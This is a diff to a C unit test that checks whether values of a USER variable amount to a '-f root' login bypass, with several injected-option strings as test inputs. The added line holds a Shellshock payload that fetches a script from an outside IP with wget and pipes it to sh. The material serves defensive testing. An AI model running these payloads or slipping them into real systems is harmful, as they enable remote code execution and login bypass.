@@ -401,6 +401,8 @@ static void test_login_bypass_decision(void)
     CU_ASSERT(BYPASS(NEW, "USER", " -froot"));        /* inetutils splits at white space */
     CU_ASSERT(BYPASS(NEW, "USER", "\t-f\troot"));
     CU_ASSERT(BYPASS(NEW, "USER", "root -f"));        /* GNU getopt permutes */
+    /* A Shellshock payload's options are not login's (demo frame 95). */
+    CU_ASSERT(!BYPASS(NEW, "USER", "() { :;}; wget http://198.51.100.9/e.sh -O- | sh"));
     CU_ASSERT(BYPASS(NEW, "USER", "- -f root"));      /* "-" is an operand */
     CU_ASSERT(BYPASS(NEW, "USER", "-f\0garbage"));    /* read up to the NUL */
     CU_ASSERT(BYPASS(NEW, "USER", "-f\x01root"));     /* a control byte is word text */
